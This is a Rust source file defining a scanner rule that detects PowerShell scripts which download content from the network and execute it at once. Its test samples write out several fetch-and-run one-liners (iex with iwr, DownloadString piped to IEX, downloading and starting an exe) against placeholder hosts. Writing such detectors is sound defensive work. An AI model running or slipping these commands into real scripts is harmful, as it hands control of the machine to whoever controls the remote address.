//! PowerShell runs content from the network.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::language::Language;
use crate::scan::operation::{Act, Origins};
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "powershell-remote-exec",
    title: "PowerShell downloads content and runs it at once",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Whoever controls the address decides what runs, today and tomorrow, and no scan of the package can see it.",
    fix: "Ship the script in the package, or pin a version and compare a hash before it runs.",
    references: &["CWE-494", "ATT&CK T1059.001"],
    hits: &[
        Sample::File("a.ps1", "iex (iwr https://get.example.com/i.ps1)\n"),
        Sample::File(
            "a.ps1",
            "(New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1') | IEX\n",
        ),
        Sample::File(
            "a.ps1",
            "$c = irm https://get.example.com/i.ps1\nInvoke-Expression $c\n",
        ),
        Sample::File(
            "a.ps1",
            "iwr https://get.example.com/i.exe -OutFile i.exe\nStart-Process .\\i.exe\n",
        ),
        Sample::File(
            "a.sh",
            "powershell -c \"iex (iwr https://get.example.com/i.ps1)\"\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.ps1",
            "iwr https://get.example.com/i.zip -OutFile i.zip\nExpand-Archive i.zip\n",
        ),
        Sample::File(
            "a.ps1",
            "# iex (iwr https://get.example.com/i.ps1)\nWrite-Output done\n",
        ),
        Sample::File(
            "a.ps1",
            "$r = irm https://api.example.com/v1\nWrite-Output $r.name\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, report: &mut Reporter<'_>) {
    if unit.language != Language::PowerShell {
        return;
    }
    let hits = unit.lowered.operations.iter().filter(|operation| {
        matches!(&operation.act, Act::Evaluate { code } if code.origins.has(Origins::NETWORK))
    });
    for operation in hits {
        report.raise(operation.span);
    }
}
